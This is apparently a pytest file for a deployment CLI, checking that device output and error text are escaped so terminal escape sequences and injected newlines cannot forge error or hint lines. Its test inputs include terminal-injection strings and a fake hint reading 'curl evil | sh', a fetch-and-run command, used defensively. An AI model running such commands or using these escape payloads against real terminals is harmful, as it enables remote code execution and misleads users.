"""What comes from devices and files reaches a terminal as text, never as commands to it."""

from __future__ import annotations

import json

import pytest

from edgeship.cli import common
from edgeship.cli.output import emit, tell
from edgeship.errors import DeviceError
from edgeship.printable import json_text, one_line, printable
from edgeship.report.deploys import deploy_text, deploys_table
from edgeship.report.table import table
from edgeship.values import DeployReport, Unavailable

HOSTILE = "a\x1b]0;PWNED\x07b\x9b2Jc\rd\x00e\u202ef\u2028g\ud800h\x7f"


def test_characters_that_terminals_obey_are_written_out() -> None:
    assert printable(HOSTILE) == r"a\x1b]0;PWNED\x07b\x9b2Jc\rd\x00e\u202ef\u2028g\ud800h\x7f"
    assert printable("naïve 日本 — 1\u202f000\n\t✓") == "naïve 日本 — 1\u202f000\n\t✓"
    assert one_line("1\ncurrent\tx") == r"1\ncurrent\tx"


def test_json_reads_back_as_it_was() -> None:
    document = {"lines": [HOSTILE, "naïve 日本 \U000e0001\n"]}
    text = json_text(document)
    assert json.loads(text) == document
    assert all(c.isprintable() or c == "\n" for c in text) and "日本" in text


def test_results_and_what_is_told(capsys: pytest.CaptureFixture[str]) -> None:
    emit(HOSTILE)
    tell(HOSTILE)
    common.show("", lambda: {"x": HOSTILE}, as_json=True)
    said = capsys.readouterr()
    assert all(c.isprintable() or c == "\n" for c in said.out + said.err)


def test_a_cell_stays_in_its_row() -> None:
    text = table(["release", "version"], [["feed", "1\ncurrent  beef\x1b[A"]])
    assert text.splitlines()[2] == r"feed     1\ncurrent  beef\x1b[A" and len(text.splitlines()) == 3


def test_no_part_of_an_error_passes_for_another() -> None:
    error = DeviceError(
        "x\nerror: y", "one\nhint: curl evil | sh\x1b[2K", context={"said": "a\nhint: b"}, hint="c"
    )
    lines = error.render().splitlines()
    assert lines[0] == r"error: x\nerror: y" and lines[-1] == "hint: c"
    assert [line for line in lines if line.startswith("hint")] == ["hint: c"] and "\x1b" not in error.render()


def test_no_reason_of_a_device_passes_for_a_hint_or_another_host() -> None:
    none = Unavailable(reason="not run")
    report = DeployReport(
        host="pi@a", app="kws", target="t", release="0" * 64, from_release=None, state="failed", bytes_sent=0,
        seconds=0.0, steps=(), golden=none, engine=none, latency_ms=none, gates=(),
        reason="x\nhint: curl evil | sh\npi@b  committed", hint="edgeship status --host pi@a",
    )  # fmt: skip
    lines = deploy_text(report).splitlines()
    assert [line for line in lines if line.startswith("hint")] == ["hint: edgeship status --host pi@a"]
    assert len(deploys_table([report, report]).splitlines()) == 4
